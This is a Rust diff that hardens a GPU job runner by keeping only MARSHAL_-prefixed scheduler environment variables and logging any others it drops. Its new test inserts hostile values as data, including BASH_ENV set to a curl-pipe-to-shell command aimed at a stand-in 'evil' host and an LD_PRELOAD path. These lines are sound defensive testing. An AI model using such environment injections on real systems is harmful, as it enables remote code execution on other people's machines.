@@ -17,14 +17,32 @@
 //! `MARSHAL_EXPECTED_RUNTIME_S`. For a MIG slice the runner then replaces
 //! `CUDA_VISIBLE_DEVICES` with the claimed instance's `MIG-…` UUID and sets
 //! `MARSHAL_MIG_UUID` (see `mig`).
+//!
+//! Only `MARSHAL_*` variables are taken from the scheduler (it sends no others): a
+//! scheduler that could set `BASH_ENV`, `LD_PRELOAD`, `PATH` or `PYTHONPATH` could run
+//! code of its choice on every node, where it is meant only to choose placements. Any
+//! other name is dropped and logged.
 
 use std::collections::BTreeMap;
 
 use marshal_scheduler::service::pb;
 
+/// The prefix of the variables the scheduler may set.
+pub const SCHEDULER_PREFIX: &str = "MARSHAL_";
+
 pub fn job_env(a: &pb::Assignment, node: &str) -> BTreeMap<String, String> {
-    let mut env: BTreeMap<String, String> =
-        a.env.iter().map(|(k, v)| (k.clone(), v.clone())).collect();
+    let (mut env, refused): (BTreeMap<String, String>, BTreeMap<String, String>) = a
+        .env
+        .iter()
+        .map(|(k, v)| (k.clone(), v.clone()))
+        .partition(|(k, _)| k.starts_with(SCHEDULER_PREFIX));
+    if !refused.is_empty() {
+        tracing::warn!(
+            job = a.job_id,
+            names = ?refused.keys().collect::<Vec<_>>(),
+            "the scheduler sent environment variables outside MARSHAL_*: dropped"
+        );
+    }
     let mut gpus: Vec<u32> = a.gpus.iter().map(|g| g.index).collect();
     gpus.sort_unstable();
     gpus.dedup();
@@ -115,6 +133,28 @@ mod tests {
         let env = job_env(&cpu, "n-1");
         assert_eq!(env["CUDA_VISIBLE_DEVICES"], "");
         assert_eq!(expected_runtime_s(&env), None);
+    }
+
+    #[test]
+    fn only_marshal_variables_come_from_the_scheduler() {
+        let mut a = assignment();
+        for (k, v) in [
+            ("BASH_ENV", "$(curl evil|sh)"),
+            ("LD_PRELOAD", "/tmp/x.so"),
+            ("PATH", "/tmp"),
+            ("MARSHAL_EXTRA", "kept"),
+        ] {
+            a.env.insert(k.into(), v.into());
+        }
+        let env = job_env(&a, "n-1");
+        for dropped in ["BASH_ENV", "LD_PRELOAD", "PATH", "bad-name"] {
+            assert!(!env.contains_key(dropped), "{dropped}");
+        }
+        assert_eq!(env["MARSHAL_EXTRA"], "kept");
+        assert!(
+            env.keys()
+                .all(|k| k.starts_with(SCHEDULER_PREFIX) || k == "CUDA_VISIBLE_DEVICES")
+        );
     }
 
     #[test]
